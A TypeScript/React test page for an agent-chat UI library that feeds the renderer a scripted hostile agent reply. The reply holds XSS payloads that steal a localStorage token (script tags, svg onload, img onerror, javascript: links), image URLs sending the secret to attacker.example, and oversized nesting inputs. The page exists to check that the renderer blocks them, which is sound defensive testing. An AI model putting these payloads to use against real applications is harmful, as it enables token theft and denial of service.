// A page that renders what a hostile agent could send: the browser suite checks that nothing leaves the page,
// nothing runs, and one bad message does not blank the app.
import { clientTools, createAgentChat, resumable, scriptedTransport, versionTree, type AgentEvent } from '@agent-chat/core';
import { AgentChatView, type RenderMessagePart } from '@agent-chat/ui';
import '@agent-chat/ui/styles.css';
import { createRoot } from 'react-dom/client';

localStorage.setItem('token', 'secret-token');
const steal = "window.__stolen = localStorage.getItem('token')";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${steal}"><script>${steal}</script></svg>`;
const html = `<!doctype html><script>${steal}</script><img src="https://attacker.example/pixel.png">`;

const markdown = [
  `Hello <script>${steal}</script> <img src="https://attacker.example/raw.png" onerror="${steal}">`,
  '',
  '![exfil](https://attacker.example/collect?secret=secret-token) ![svg](data:image/svg+xml,' + encodeURIComponent(svg) + ')',
  '',
  '[click me](https://attacker.example/phish) [js](javascript:window.__stolen=1) https://attacker.example/bare',
  '',
  '>'.repeat(3000) + ' deep quote',
  '',
  // 1,000 levels (a million characters of indentation): deeper than the limit, as 3,000 is in the unit tests.
  Array.from({ length: 1000 }, (_, level) => `${' '.repeat(level * 2)}- level ${level}`).join('\n'),
  '',
  '*'.repeat(200_000),
  '',
  'The end of the hostile reply.',
].join('\n');

const words = (text: string, messageKey: string): AgentEvent[] => text.match(/[\s\S]{1,4000}/g)!.map((piece) => ({ type: 'text-delta', text: piece, messageKey }));

const transport = scriptedTransport([[
  ...words(markdown, 'a'),
  { type: 'part-add', part: { media: { url: 'https://attacker.example/media.png', contentType: 'image/png' } }, messageKey: 'a' },
  { type: 'part-add', part: { media: { url: 'https://attacker.example/clip.mp4', contentType: 'video/mp4' } }, messageKey: 'a' },
  { type: 'artifact-upsert', artifact: { name: 'page.html', parts: [{ text: html }], metadata: { contentType: 'text/html' } } },
  { type: 'artifact-upsert', artifact: { name: 'logo.svg', parts: [{ text: svg }], metadata: { contentType: 'image/svg+xml' } } },
  { type: 'artifact-upsert', artifact: { name: 'pic', parts: [{ media: { url: 'https://attacker.example/artifact.png', contentType: 'image/png' } }] } },
  ...words('this message makes the renderer throw', 'b'),
  { type: 'turn-end', finishReason: 'stop' },
]], { delayMs: 0 });

// What AgentChatView gives a chat it makes itself: all three features.
const chat = createAgentChat({ transport, features: [versionTree(), clientTools(), resumable()] });
// A custom part renderer with a bug: the message it cannot handle must fail alone.
const renderPart: RenderMessagePart = (part) => {
  if ('text' in part && part.text.includes('renderer throw')) throw new Error('renderer bug');
  return undefined;
};

createRoot(document.getElementById('root')!).render(<AgentChatView chat={chat} renderPart={renderPart} artifacts="always" />);
void chat.send('show me everything').then(() => document.body.setAttribute('data-turn', 'done'));
